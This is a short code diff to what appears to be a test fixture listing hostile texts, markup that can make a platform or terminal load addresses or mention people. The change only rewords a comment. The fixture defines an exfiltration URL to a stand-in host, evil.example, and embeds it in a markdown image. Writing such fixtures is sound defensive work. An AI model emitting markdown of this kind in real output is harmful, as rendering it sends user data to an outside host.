@@ -1,8 +1,8 @@
 const secret = 'https://evil.example/?d=SECRET'
 
 /**
- * Texts that a model or a person may write so that a platform, an app or a terminal acts: loads an address, mentions
- * people, shows a button, hides or misnames something. By name; every channel must show them as text or plain links.
+ * Texts, by name, that make a platform, an app or a terminal act. For example, it loads an address, mentions people,
+ * shows a button, or hides or misnames something. Every channel must show them as text or plain links.
  */
 export const hostileTexts = {
   'picture inline': `![](${secret})`,
